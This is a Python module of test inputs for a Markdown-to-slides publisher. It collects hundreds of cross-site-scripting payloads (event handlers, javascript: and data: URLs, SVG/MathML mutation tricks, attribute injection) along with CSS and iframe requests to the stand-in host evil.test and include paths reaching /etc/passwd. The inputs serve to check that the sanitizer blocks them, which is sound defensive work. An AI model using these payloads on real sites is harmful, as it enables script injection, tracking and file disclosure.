"""What a contributor may try, by kind: Markdown that shall run no script and ask no other site.

Each text stands on a slide of its own, below a heading. `hit()` is counted where it runs, and nothing may be asked of
`evil.test`. In `{n}` is the number of the attack. ALONE are whole lectures, as these may swallow what follows them, and
PICTURES drawings, which are shown, linked to, and opened by themselves.
"""

from __future__ import annotations

ATTACKS = {
    "handlers": r"""
<img src=x.png onerror=hit()>
<img src=graphics/a.png onload=hit()>
<IMG SRC=graphics/a.png OnLoAd="hit()">
<img src="graphics/a.png"/onload=hit()>
<img/src="graphics/a.png"/onload="hit()">
<b onmouseover=hit()>b</b>
<b onmouseover="&#104;it()">b</b>
<details open ontoggle=hit()><summary>s</summary>d</details>
<div onpointerenter=hit() style="width:100%;height:400px">d</div>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()><option>o</option></select>
<textarea autofocus onfocus=hit()></textarea>
<button autofocus onfocus=hit() onclick=hit()>b</button>
<p tabindex=1 autofocus onfocus=hit()>p</p>
<a href="#" onclick="hit()">a</a>
<div style="animation: x 1s" onanimationstart=hit()>d</div>
<div style="transition: color 1s" ontransitionend=hit()>d</div>
<video src=x.png onerror=hit()></video>
<video><source onerror=hit()></video>
<audio src=x.png onerror=hit()></audio>
<marquee onstart=hit()>m</marquee>
<body onload=hit()>
<body onpageshow=hit() onhashchange=hit() onscroll=hit()>
<frameset onload=hit()></frameset>
<p oncontentvisibilityautostatechange=hit() style="content-visibility:auto">p</p>
<p onbeforematch=hit() hidden=until-found>p</p>
<div popover id=pop{n} onbeforetoggle=hit()>p</div><button popovertarget=pop{n}>open</button>
<ruby onmouseenter=hit()>r<rt onclick=hit()>t</rt></ruby>
<table onmouseover=hit()><tr><td onclick=hit()>c</td></tr></table>
<p on\x00click=hit()>p</p>
<p  onclick&#61;hit()>p</p>
<p data-onclick="hit()" onclick="hit()">p</p>
""",
    "scripts": r"""
<script>hit()</script>
<SCRIPT>hit()</SCRIPT>
<script/x>hit()</script>
<script	type="text/javascript">hit()</script>
<script type=module>hit()</script>
<script type=importmap>{"imports":{"x":"//evil.test/x.js"}}</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/"]}]}</script>
<script src=//evil.test/x.js></script>
<script src="data:text/javascript,hit()"></script>
<scr<script>ipt>hit()</script>
<<script>hit()//<</script>
<script><!-- hit() --></script>
<script>/*</script><script>*/hit()</script>
<template><script>hit()</script></template>
<template shadowrootmode=open><img src=x.png onerror=hit()></template>
<div><template shadowrootmode=open><script>hit()</script></template></div>
<noscript><img src=x.png onerror=hit()></noscript>
<noscript><p title="</noscript><img src=x.png onerror=hit()>"></noscript>
<xmp><script>hit()</script></xmp>
<plaintext><script>hit()</script>
<?php echo 1 ?><script>hit()</script>
<![CDATA[<script>hit()</script>]]>
<!DOCTYPE html><script>hit()</script>
""",
    "schemes": r"""
<a href="javascript:hit()">a</a>
<a href="JaVaScRiPt:hit()">a</a>
<a href=" javascript:hit()">a</a>
<a href="java&#9;script:hit()">a</a>
<a href="java&NewLine;script:hit()">a</a>
<a href="javascript&colon;hit()">a</a>
<a href="&#106;&#97;vascript:hit()">a</a>
<a href="&#x6A&#x61vascript:hit()">a</a>
<a href="&#0000106avascript:hit()">a</a>
<a href="&#1;javascript:hit()">a</a>
<a href="jav	ascript:hit()">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>hit()</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">a</a>
<a href="data:image/svg+xml,<svg onload=hit()>">a</a>
<a href="view-source:javascript:hit()">a</a>
<a href="blob:https://evil.test/x">a</a>
<a href="filesystem:https://evil.test/x">a</a>
<a href="feed:javascript:hit()">a</a>
<a href="livescript:hit()">a</a>
<a href="javascript://%0ahit()">a</a>
<a href="javascript:'<img/src/onerror=hit()>'">a</a>
<a xlink:href="javascript:hit()">a</a>
<area href="javascript:hit()" shape=default>
<map name=m{n}><area href="javascript:hit()"></map><img usemap=#m{n} src=graphics/a.png alt=a>
<form action="javascript:hit()"><input type=submit></form>
<form><button formaction="javascript:hit()">b</button></form>
<button form=f{n} formaction=javascript:hit()>b</button><form id=f{n}></form>
<iframe src="javascript:hit()"></iframe>
<object data="javascript:hit()"></object>
<embed src="javascript:hit()">
<img src="javascript:hit()" alt=a>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>" alt=a>
<blockquote cite="javascript:hit()">q</blockquote>
<del cite="javascript:hit()">q</del>
<table background="javascript:hit()"><tr><td background="javascript:hit()">c</td></tr></table>
<body background="javascript:hit()">
<a href="https://example.org" ping="https://evil.test/ping">a</a>
""",
    "Markdown links": r"""
[a](javascript:hit())
[a](JAVASCRIPT:hit())
[a](<javascript:hit()>)
[a](javascript&colon;hit())
[a](&#106;avascript:hit())
[a](\x01javascript:hit())
[a](data:text/html,<script>hit()</script>)
[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)
[a](vbscript:hit())
[a][r{n}]\n\n[r{n}]: javascript:hit()
<javascript:hit()>
<JavaScript:hit()>
[a](https://example.org "x\" onmouseover=\"hit()")
[a](https://example.org/"onmouseover="hit())
[a](https://example.org'onmouseover='hit())
![a](javascript:hit())
![a](data:text/html,hit())
![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0naGl0KCknLz4=)
![a](https://evil.test/a.png)
![a](//evil.test/a.png)
![a](\\\\evil.test/a.png)
![a](/\\evil.test/a.png)
[![](graphics/a.png){alt=a}](javascript:hit())
[[a](javascript:hit())]{.x}
[*a* `b` $x$](javascript:hit())
$\href{javascript:hit()}{x}$
$\text{<img src=x.png onerror=hit()>}$
$\unicode{<script>hit()</script>}$
""",
    "attributes in braces": r"""
[a](https://example.org){onclick="hit()"}
[a](https://example.org){ONCLICK="hit()"}
[a](https://example.org){data-onclick="hit()" onmouseover=hit()}
[a](https://example.org){ping="https://evil.test/ping"}
[a](https://example.org){data-preview-link="javascript:hit()"}
[a](https://example.org){data-preview-link}
[a](https://example.org){target=_top style="position:fixed;inset:0"}
[a]{onmouseover="hit()"}
[a]{onfocus=hit() tabindex=0 autofocus=1}
[a]{style="background:url(//evil.test/a)"}
[a]{style="background:u\72l(//evil.test/a)"}
[a]{style="background:image-set('//evil.test/a' 1x)"}
[a]{style="background:url(//evil.test/a"}
[a]{style="background:src('//evil.test/a')"}
[a]{style="background:url(/**/'//evil.test/a')"}
[a]{style="display:list-item;list-style-image:cross-fade(url(//evil.test/a),url(//evil.test/b),50%)"}
[a]{style="--x:url(//evil.test/a);background:var(--x)"}
[a]{style="position:fixed;inset:0;z-index:99"}
[a]{style="--x:u\\72l(//evil.test/a);background:var(--x)"}
[a]{srcdoc="<script>hit()</script>"}
[a]{data-src="//evil.test/a"}
[a]{data-preview-image="//evil.test/a.png"}
[a]{data-preview-video="//evil.test/a.mp4"}
[a]{is="x-y" slot="z" part="p" nonce="n"}
`code`{onclick="hit()" style="background:url(//evil.test/a)"}
![a](graphics/a.png){onload="hit()"}
![a](graphics/a.png){srcset="//evil.test/a.png 2x" sizes=100vw}
![a](graphics/a.png){onload="hit()" .x} text
![a](graphics/a.png){data-frames="https://evil.test/1.png https://evil.test/2.png" data-values=1,2 data-parameter=p}
![a](graphics/a.png){lowsrc="//evil.test/a" dynsrc="//evil.test/b" longdesc="javascript:hit()"}
![a](graphics/a.png){usemap="#m" ismap=ismap crossorigin=use-credentials}
![a](graphics/a.png){data-src="//evil.test/a.png"}
![a](graphics/a.png){style="content:url(//evil.test/a)"}
![a](graphics/a.png){width="1px;background:url(//evil.test/a)"}
![a](graphics/a.png){source="javascript:hit()" credit="<img src=x.png onerror=hit()>"}
![a](graphics/a.png){source='https://example.org/" onmouseover="hit()' license="<script>hit()</script>"}
![a](graphics/a.png){alt='" onload="hit()'}
![a](graphics/a.png "t\" onload=\"hit()")
::: {onclick="hit()" onmouseenter="hit()"}\nd\n:::
::: {style="background-image:url(//evil.test/a)"}\nd\n:::
::: {data-chart=plotly data-scripts="//evil.test/x.js"}\nd\n:::
::: {data-markdown="//evil.test/x.md"}\nd\n:::
::: {data-background-iframe="javascript:hit()" data-background-video="//evil.test/a.mp4"}\nd\n:::
::: {data-toggle-theme="x" data-autoplay=1 data-trigger="hit()"}\nd\n:::
::: {hx-get="//evil.test" x-on:click="hit()" v-on:click="hit()" ng-init="hit()"}\nd\n:::
::: columns\n::: {.column width="50%;background:url(//evil.test/a)"}\nd\n:::\n:::
``` {.python onclick="hit()"}\nx = 1\n```
``` {.python startFrom="1\" onclick=\"hit()" .numberLines}\nx = 1\n```
``` {.x"onclick="hit()}\nx = 1\n```
``` {.python data-code-line-numbers="1|\"><img src=x.png onerror=hit()>"}\nx = 1\n```
``` {.python code-line-numbers="1|<script>hit()</script>"}\nx = 1\n```
```"><img/src=x/onerror=hit()>\nx = 1\n```
```{=html}\n<img src=x.png onerror=hit()>\n```
```{=html5}\n<img src=x.png onerror=hit()>\n```
```{=html4}\n<img src=x.png onerror=hit()>\n```
```{=revealjs}\n<script>hit()</script>\n```
```{=slidy}\n<script>hit()</script>\n```
`<img src=x.png onerror=hit()>`{=html}
`<svg onload=hit()>`{=html5}
`<script>hit()</script>`{=markdown}
| a |\n|---|\n| b |\n\n: c {onclick="hit()" style="background:url(//evil.test/a)"}
""",
    "style": r"""
<p style="background:url(https://evil.test/a)">p</p>
<p style="background:url('https://evil.test/a')">p</p>
<p style="background:u\72l(https://evil.test/a)">p</p>
<p style="background:\75\72\6c(https://evil.test/a)">p</p>
<p style="background:url(https://evil.test/a">p</p>
<p style="background:url(/**/https://evil.test/a)">p</p>
<p style="background:/*)*/url(https://evil.test/a)">p</p>
<p style="background:image-set('https://evil.test/a' 1x)">p</p>
<p style="background:-webkit-image-set(url(https://evil.test/a) 1x)">p</p>
<p style="background:-webkit-cross-fade(url(https://evil.test/a),url(https://evil.test/b),50%)">p</p>
<p style="background:image('https://evil.test/a')">p</p>
<p style="background:src('https://evil.test/a')">p</p>
<p style="--x:url(https://evil.test/a);background:var(--x)">p</p>
<p style="list-style:url(https://evil.test/a);display:list-item">p</p>
<p style="cursor:url(https://evil.test/a),auto">p</p>
<p style="content:url(https://evil.test/a)">p</p>
<p style="border-image:url(https://evil.test/a) 1">p</p>
<p style="mask-image:url(https://evil.test/a)">p</p>
<p style="filter:url(https://evil.test/a#f)">p</p>
<p style="shape-outside:url(https://evil.test/a);float:left">p</p>
<p style="clip-path:url(https://evil.test/a#c)">p</p>
<p style="offset-path:url(https://evil.test/a#c)">p</p>
<p style="background:URL(//evil.test/a)">p</p>
<p style="background:url(\2f\2f evil.test/a)">p</p>
<p style="width:expression(hit())">p</p>
<p style="behavior:url(//evil.test/a.htc);-moz-binding:url(//evil.test/x.xml#x)">p</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">p</p>
<p style="p\6fsition:fixed;inset:0">p</p>
<p style="position:absolute;top:-9999px;width:99999px;height:99999px">p</p>
<p style="margin:-1000px;padding:2000px">p</p>
<p style="background:&quot;;background:url(//evil.test/a);&quot;">p</p>
<p style='color:red;}*{background:url(//evil.test/a)}'>p</p>
<style>p{background:url(//evil.test/a)}</style>
<style>@import "//evil.test/a.css";</style>
<style>@import url(//evil.test/a.css);</style>
<style>@font-face{font-family:x;src:url(//evil.test/a)}*{font-family:x}</style>
<style>@im\port "//evil.test/a.css";</style>
<style>section{display:none!important}</style>
<style></style><img src=x.png onerror=hit()></style>
<style><img title="</style><img src=x.png onerror=hit()>"></style>
<link rel=stylesheet href=//evil.test/a.css>
<link rel=stylesheet href="data:text/css,*{background:url(//evil.test/a)}">
<link rel=prefetch href=//evil.test/a>
<link rel=dns-prefetch href=//evil.test/>
<link rel=preload as=image imagesrcset="//evil.test/a 1x">
<link rel=modulepreload href=//evil.test/a.js>
<link rel=icon href=//evil.test/a>
<link rel=manifest href=//evil.test/a>
<font style="background:url(//evil.test/a)" face="x">f</font>
""",
    "frames and requests": r"""
<iframe src="https://evil.test/"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe srcdoc="&lt;img src=x.png onerror=parent.hit()&gt;"></iframe>
<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>
<iframe src="about:blank" onload=hit()></iframe>
<iframe data-src="https://evil.test/"></iframe>
<frame src="https://evil.test/">
<portal src="https://evil.test/"></portal>
<fencedframe src="https://evil.test/"></fencedframe>
<object data="https://evil.test/"></object>
<object><param name=movie value="https://evil.test/x.swf"></object>
<embed src="https://evil.test/x.svg">
<applet code="x" codebase="https://evil.test/"></applet>
<video poster="https://evil.test/a.png"></video>
<video><track src="https://evil.test/a.vtt" default></video>
<audio src="https://evil.test/a.mp3" autoplay></audio>
<img srcset="https://evil.test/a 1x" alt=a>
<img src=graphics/a.png srcset="data:,x, https://evil.test/a 2x" alt=a>
<picture><source srcset="//evil.test/a"><img src=graphics/a.png alt=a></picture>
<img src="//evil.test/a" alt=a>
<img src="\\evil.test\a" alt=a>
<img src="/\evil.test/a" alt=a>
<img src="ht	tps://evil.test/a" alt=a>
<img src="https:evil.test/a" alt=a>
<image src="//evil.test/a">
<image xlink:href="//evil.test/a"/>
<input type=image src="//evil.test/a">
<base href="https://evil.test/">
<base target=_blank>
<meta http-equiv=refresh content="0;url=https://evil.test/">
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta name=referrer content=unsafe-url>
<form action="https://evil.test/" id=g{n}><input name=q></form><button form=g{n}>send</button>
<isindex action="javascript:hit()" type=submit>
<keygen autofocus onfocus=hit()>
<bgsound src="//evil.test/a">
<layer src="//evil.test/a"></layer>
<button command="show-modal" commandfor=d{n}>b</button><dialog id=d{n} open onclose=hit()>d</dialog>
<div is=x-y><slot onslotchange=hit()></slot></div>
""",
    "SVG and MathML": r"""
<svg onload=hit()></svg>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href="data:,hit()"/></svg>
<svg><script xlink:href="//evil.test/x.js"></script></svg>
<svg><a href="javascript:hit()"><text y=20>t</text></a></svg>
<svg><a xlink:href="javascript:hit()"><text y=20>t</text></a></svg>
<svg><a><animate attributeName=href values="javascript:hit()" dur=1s /><text y=20>t</text></a></svg>
<svg><a id=z{n}><text y=20>t</text></a><set href=#z{n} attributeName=href to=javascript:hit() /></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to=hit() /></svg>
<svg><animateTransform onrepeat=hit() attributeName=transform dur=1s repeatCount=2 /></svg>
<svg><image href="https://evil.test/a" width=9 height=9 /></svg>
<svg><image xlink:href="//evil.test/a" width=9 height=9></image></svg>
<svg><feImage href="//evil.test/a"/></svg>
<svg><filter id=f{n}><feImage xlink:href="//evil.test/a"/></filter><rect filter="url(#f{n})" width=9 height=9 /></svg>
<svg><use href="https://evil.test/a.svg#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x.png' onerror='hit()'/></svg>#x"/></svg>
<svg><foreignObject><img src=x.png onerror=hit()></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>
<svg><style>*{background:url(//evil.test/a)}</style></svg>
<svg><style>@import '//evil.test/a.css';</style></svg>
<svg><style><img src=x.png onerror=hit()></style></svg>
<svg><rect fill="url(//evil.test/a#b)" width=9 height=9 /></svg>
<svg><rect style="fill:url(//evil.test/a#b)" width=9 height=9 /></svg>
<svg><rect mask="url(//evil.test/a#b)" width=9 height=9 /></svg>
<svg><path d="M0 0h9" marker-start="url(//evil.test/a#b)"/></svg>
<svg><linearGradient id=l{n} href="//evil.test/a.svg#g"/><rect fill="url(#l{n})" width=9 height=9 /></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler></svg>
<svg><discard onbegin=hit() /></svg>
<svg><title><img src=x.png onerror=hit()></title></svg>
<svg><desc><script>hit()</script></desc></svg>
<svg><metadata><img src=x.png onerror=hit()></metadata></svg>
<svg><![CDATA[<img src=x.png onerror=hit()>]]></svg>
<svg xmlns:xlink="javascript:hit()" xml:base="//evil.test/"><image xlink:href="graphics/a.png"/></svg>
<math href="javascript:hit()">x</math>
<math><mi href="javascript:hit()">x</mi></math>
<math><mi xlink:href="javascript:hit()" onclick=hit()>x</mi></math>
<math><maction actiontype="statusline#javascript:hit()" xlink:href="javascript:hit()">x</maction></math>
<math><mglyph src="//evil.test/a"/></math>
<math><annotation-xml encoding="text/html"><img src=x.png onerror=hit()></annotation-xml></math>
<math><mtext><script>hit()</script></mtext></math>
<math><mi style="background:url(//evil.test/a)">x</mi></math>
""",
    "nesting": r"""
<svg><title><a id="</title><img src=x.png onerror=hit()>">a</a></title></svg>
<svg><desc><p title="</desc><img src=x.png onerror=hit()>">a</p></desc></svg>
<svg>*x*<title><a id="</title><img src=x.png onerror=hit()>">a</a></title></svg>
<svg></p><style><a id="</style><img src=x.png onerror=hit()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x.png onerror=hit()></style></mglyph></form></mtext></math>
<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x.png onerror=hit()>"></style></mtext></svg></mglyph></mi></math>
<svg><p><style><g title="</style><img src=x.png onerror=hit()>"></style></p></svg>
<math><annotation-xml encoding="text/html"><style><p title="</style><img src=x.png onerror=hit()>"></style></annotation-xml></math>
<noscript><style></noscript><img src=x.png onerror=hit()></style>
<p title="<!--"><!--"><img src=x.png onerror=hit()>-->
<!--!> <img src=x.png onerror=hit()> -->
<a title="&quot;><img src=x.png onerror=hit()>">a</a>
<b title="`><img src=x.png onerror=hit()>">b</b>
<b title='"><img src=x.png onerror=hit()>'>b</b>
<b title="&#xfdd0;0&#xfdd1;">[c](https://example.org/ " onclick=hit() ")</b>
<b title="﷐0﷑">c</b> [d](https://example.org/)
<pre title="&#xfdd0;99&#xfdd1;">c</pre>
<div title="&lt;hr id=&quot;&#xfdd0;0&#xfdd1;&quot;&gt;">\n\n> q\n\n</div>
<table><tr><td><b><a href="#top"></table><img src=x.png onerror=hit()>
<table><a href="javascript:hit()"><tr><td>c</td></tr></table>
<select><svg><style><img src=x.png onerror=hit()></style></svg></select>
<textarea><img title="</textarea><img src=x.png onerror=hit()>"></textarea>
<title><img title="</title><img src=x.png onerror=hit()>"></title>
<iframe><img title="</iframe><img src=x.png onerror=hit()>"></iframe>
<noembed><img title="</noembed><img src=x.png onerror=hit()>"></noembed>
<noframes><img title="</noframes><img src=x.png onerror=hit()>"></noframes>
<xmp><img title="</xmp><img src=x.png onerror=hit()>"></xmp>
<b <b onmouseover=hit()>b</b>
<img src=graphics/a.png alt="a"onload=hit()>
<img alt=`a` src=graphics/a.png onload=`hit()`>
<img "" "><script>hit()</script>">
< img src=x.png onerror=hit()>
<img\nsrc=x.png\nonerror=hit()>
<img\x0bsrc=x.png\x0bonerror=hit()>
<image/src/onerror=hit()>
<x onclick=hit() style=display:block>x</x>
<details><summary><a href="javascript:hit()">a</a></summary></details>
<figure><img src=graphics/a.png alt=a onload=hit()><figcaption onclick=hit()>c</figcaption></figure>
""",
    "text of others": r"""
&lt;script&gt;hit()&lt;/script&gt;
\<img src=x.png onerror=hit()\>
a[^{n}]\n\n[^{n}]: <img src=x.png onerror=hit()> [b](javascript:hit())
a^[<script>hit()</script> [b](javascript:hit())]
> Q: <img src=x.png onerror=hit()>\n>\n> A: [b](javascript:hit()) <svg onload=hit()>
> words -- <img src=x.png onerror=hit()>
term\n:   <img src=x.png onerror=hit()>
| <img src=x.png onerror=hit()> line\n| [b](javascript:hit())
- [ ] <img src=x.png onerror=hit()>\n- [x] [b](javascript:hit())
1. <script>hit()</script>\n2. [b]{onclick=hit()}
| a | <b onclick=hit()>b</b> |\n|---|---|\n| <img src=x.png onerror=hit()> | [b](javascript:hit()) |
![<img src=x.png onerror=hit()>](graphics/a.png)
![a [b](javascript:hit())](graphics/a.png)
![a](graphics/a.png){alt="<script>hit()</script>" title="<img src=x.png onerror=hit()>"}
### <img src=x.png onerror=hit()> {onclick="hit()"}
::: incremental\n- <img src=x.png onerror=hit()>\n- [b](javascript:hit())\n:::
::: {.callout-note title="<img src=x.png onerror=hit()>" onclick="hit()"}\nd\n:::
::: {.fragment data-fragment-index="1\" onclick=\"hit()"}\nd\n:::
::: "><img/src=x/onerror=hit()>\nd\n:::
[a]{#"onclick="hit()}
[a]{.x title="\" onclick=\"hit()"}
~~<img src=x.png onerror=hit()>~~ H~<b onclick=hit()>2</b>~O
`<img src=x.png onerror=hit()>` and ``<script>hit()</script>``
<https://example.org/"onclick="hit()>
<a@example.org?onclick=hit()>
:::: {.columns onclick=hit()}\n::: {.column style="width:50%;background:url(//evil.test/a)"}\nd\n:::\n::::
\begin{x}<img src=x.png onerror=hit()>\end{x}
<div markdown=1 onclick=hit()>*a* [b](javascript:hit())</div>
<details>\n\n[b](javascript:hit()) <img src=x.png onerror=hit()>\n\n</details>
""",
    "constructs": r"""
``` {.python #lst-a{n} lst-cap="<script>hit()</script> [x](javascript:hit()) `<svg onload=hit()>`" filename="<svg onload=hit()>"}\nx\n```\n\n@lst-a{n}
::: {#thm-a{n} name="<img src=graphics/a.png onload=hit()> [x](javascript:hit()) ![y](https://evil.test/a)"}\nt\n:::\n\n@thm-a{n}
``` {dot}\n//| fig-cap: "<img src=graphics/a.png onload=hit()> [x](javascript:hit())"\ndigraph { a [label="<svg onload=hit()>" URL="javascript:hit()" tooltip="<svg onload=hit()>"]; b [shape=none image="https://evil.test/x.png"] }\n```
::: {.callout-note title="[x](javascript:hit()) <script>hit()</script> ![y](https://evil.test/a)" collapse=true}\nd\n:::
> [!NOTE] [x](javascript:hit()) <svg onload=hit()>\n> <script>hit()</script>
::: {.panel-tabset group="\"><svg onload=hit()>"}\n### `<svg onload=hit()>` [x](javascript:hit()) {onclick=hit()}\na\n\n### B {style="background:url(//evil.test/t)"}\nb\n:::
<div class=tabs><div class=pane><div class=panel><h3 class=tab-title>`<svg onload=hit()>`</h3>x</div></div></div>
::: {.quiz onclick="hit()"}\nWhat `<script>hit()</script>` [x](javascript:hit())?\n\n- [x] <svg onload=hit()>\n\n    <script>hit()</script> `<svg onload=hit()>`\n- [ ] no\n:::
<fieldset class=quiz><ol class=choices><li><input onfocus=hit()></li></ol><ol class=solution><li class=right><b class=verdict onclick=hit()>x</b></li></ol></fieldset>
![<b onclick=hit()>c</b> `<script>hit()</script>` [z](javascript:hit())](graphics/a.png){.lightbox #fig-a{n} group="\"><svg onload=hit()>" description="<svg onload=hit()>"}\n\n@fig-a{n} [<svg onload=hit()> @fig-a{n}]
<figure><img class=lightbox src=graphics/a.png alt="<svg onload=hit()>"><figcaption>&lt;script&gt;hit()&lt;/script&gt; <b onclick=hit()>b</b></figcaption></figure>
### `<script>hit()</script>` \<img src=graphics/a.png onload=hit()\> {#sec-a{n}}\n\n@sec-a{n} @constructs/sec-a{n}
::: {layout="[[1,1]]" layout-valign="center;background:url(//evil.test/v)" style="background:url(//evil.test/l)"}\n![<svg onload=hit()>](graphics/a.png)\n\n![b](graphics/a.png){fig-subcap="<svg onload=hit()>"}\n:::
::: {.absolute top="0;background:url(//evil.test/abs)" left="1px;x:expression(hit())" width="url(//evil.test/w)"}\nx\n:::
::: {.column-margin onclick=hit()}\n<img src=graphics/a.png onload=hit()> [x](javascript:hit())\n:::
::: {.content-visible when-format="revealjs" onclick=hit()}\n<script>hit()</script>\n:::
{{< video https://evil.test/a.mp4 title="\"><script>hit()</script>" >}}
{{< video https://example.org/"onmouseover="hit() >}}
{{< kbd "><svg/onload=hit()> >}}
[]{.qr to="https://example.org/\"><svg onload=hit()>"}
{{< include _part.md >}}
{{< var evil >}} [{{< var evil >}}](https://example.org)
[x]{.fragment .custom fragment-index="0\"><svg onload=hit()>"}
<main class=stage data-config='{"dependencies":[{"src":"//evil.test/x.js"}],"parallaxBackgroundImage":"//evil.test/p"}'>y</main>
<span id=_schedule class=week data-now='<svg onload=hit()>'>x</span><time datetime='<svg onload=hit()>'>x</time><a class="to-page search-result" href="//evil.test/?mark=x">a</a>
<div data-chart=plotly data-spec='{}'>x</div><script type=application/json>{}</script>
$$\text{</annotation><img src=graphics/a.png onload=hit()>} </math><script>hit()</script>$$ {#eq-a{n}}\n\n@eq-a{n}
__proto__ constructor `__proto__` `</script><script>hit()</script>` \u2028 ]]&gt; \<img src=graphics/a.png onload=hit()\>
""",
}
HEADINGS = r"""
{onclick="hit()"}
{background-iframe="javascript:hit()"}
{background-iframe="data:text/html,<script>parent.hit()</script>"}
{background-iframe="https://evil.test/"}
{data-background-iframe="//evil.test/"}
{background-image="https://evil.test/a.png"}
{background-image="\\\\evil.test/a.png"}
{background-image="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>"}
{background-image="x.png'),url(//evil.test/a"}
{background-image="x.png#'><img src=x.png onerror=hit()>"}
{background-video="x.png#\"><img src=x.png onerror=hit()>"}
{background-video="https://evil.test/a.mp4"}
{background="https://evil.test/a.png"}
{background-gradient="url(https://evil.test/a)"}
{background-gradient="linear-gradient(red,blue),u\72l(//evil.test/a)"}
{background-color="red;background:url(//evil.test/a)"}
{background-color="url(//evil.test/a)"}
{background-size="1px;background:url(//evil.test/a)"}
{style="background:url(//evil.test/a)"}
{data-state="x\" onclick=\"hit()"}
{data-markdown="//evil.test/x.md"}
{data-preload="x" data-src="//evil.test/a"}
{data-auto-animate-easing="hit()" data-auto-animate-id="x"}
{data-notes="<img src=x.png onerror=hit()>"}
{.x"onclick="hit()}
{class='x" onclick="hit()'}
{transition="none\" onclick=\"hit()"}
<img src=x.png onerror=hit()> [a](javascript:hit())
<script>hit()</script>
[a]{onclick="hit()"}
""".strip("\n").split("\n")
REFUSED = (  # with an error: nothing is published
    "[a](< javascript:hit()>)",
    "[a](java&Tab;script:hit())",
    "[a](java%0Ascript:hit())",
    '[a][s]\n\n[s]: <java&#10;script:hit()> "t"',
    "~~~ html\n<img src=x.png onerror=hit()>",
    "<!--><img src=x.png onerror=hit()>-->",
    "<!---><img src=x.png onerror=hit()>-->",
    "<!-- --!><img src=x.png onerror=hit()>-->",
    (
        "## a\n\n<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x.png onerror=hit()&gt;"></style></mglyph></table></mtext></math>\n'
    ),
    "## a\n\n<!-- <img src=x.png onerror=hit()>\n\n## b\n\nc\n",
    "{{< include ../../../etc/passwd >}}",
    '```{.python include="../../../../etc/passwd"}\n```',
    "---\ntheme: seriph\ntransition: fade\n---\n\n# a\n\n<<< @/../../../../etc/passwd\n\n---\nlayout: center\n---\n\n# b\n",
    '---\ntitle: T\nlang: "en\\" onload=\\"hit()"\n---\n\n## a\n\nb\n',
)
NAMES = (  # of files, and of the lectures beside them
    '"><img src=x.png onerror=hit()>',
    "<img src=x.png onerror=hit()>",
    "<svg onload=hit()>",
    "<script>hit()",
    "'onerror='hit()",
    '" onerror="hit()',
    "javascript:hit()",
    "data:text,html,<svg onload=hit()>",
    "&quot;&gt;&lt;img src=x.png onerror=hit()&gt;",
    "%22%3E%3Cimg src=x.png onerror=hit()%3E",
    "`<img src=x.png onerror=hit()>",
    "](javascript:hit())",
    "{{ hit() }}{% raw %}",
    "-->]]><img src=x.png onerror=hit()>",
    "$<img src=x.png onerror=hit()>$",
    "a){onerror=hit()}",
)
ALONE = (
    "## a\n\n<script>hit()\n",
    "## a\n\n<script>hit()//</scrip\n",
    '---\ntitle: "<img src=x.png onerror=hit()>"\n---\n\n## a\n\nb\n',
    '---\ntitle: "[a](javascript:hit())"\nsubtitle: "<script>hit()</script>"\n---\n\n## a\n\nb\n',
    "---\ntitle: T\nauthor: ['<svg onload=hit()>', '[b](javascript:hit())']\n---\n\n## a\n\nb\n",
    '---\ntitle: T\nfooter: "<img src=x.png onerror=hit()> [b]{onclick=hit()}"\n---\n\n## a\n\nb\n',
    '---\ntitle: T\nlicense: "<img src=x.png onerror=hit()>"\n---\n\n## a\n\nb\n',
    '---\ntitle: T\ndescription: "\\"><script>hit()</script>"\n---\n\n## a\n\nb\n',
    '---\ntitle: T\ndate: "<img src=x.png onerror=hit()>"\nsemester: "<img src=x.png onerror=hit()>"\n---\n\n## a\n\nb\n',
    '---\ntitle: T\ninstitution: "<img src=x.png onerror=hit()>"\n---\n\n## a\n\nb\n',
    "---\ntitle: T\nheader-includes: <script>hit()</script>\n---\n\n## a\n\nb\n",
    "---\ntitle: T\ntheme: //evil.test/a.css\ncss: //evil.test/a.css\nlogo: //evil.test/a.png\n---\n\n## a\n\nb\n",
    "% <img src=x.png onerror=hit()>\n% [a](javascript:hit())\n% <script>hit()</script>\n\n## a\n\nb\n",
    "## a\n\n<div onclick=hit()\n\n## b\n\nc\n",
    "## a\n\n<script>\n\n## b\n\nhit()\n",
    '## a\n\n<svg>\n\n## b\n\n<title><a href="</title><img src=x.png onerror=hit()>">\n',
    "## a\n\n<plaintext>\n\n## b\n\n<img src=x.png onerror=hit()>\n",
    "---\ntitle: T\nbibliography: refs.bib\n---\n\n## a\n\n[@a, <svg onload=hit()>; @b]\n",
    "---\ntitle: T\nlogo: 'data:image/svg+xml,<svg onload=hit()/>'\ntitle-slide-attributes:\n  onclick: hit()\n  data-background-iframe: https://evil.test/\n---\n\n## a\n\nb\n",
    '## a\n\n<b title="\n\n## b\n\n"><img src=x.png onerror=hit()>\n',
    "## a\n\n<style>\n\n## b\n\n*{background:url(//evil.test/a)}\n",
)
BIBLIOGRAPHY = """
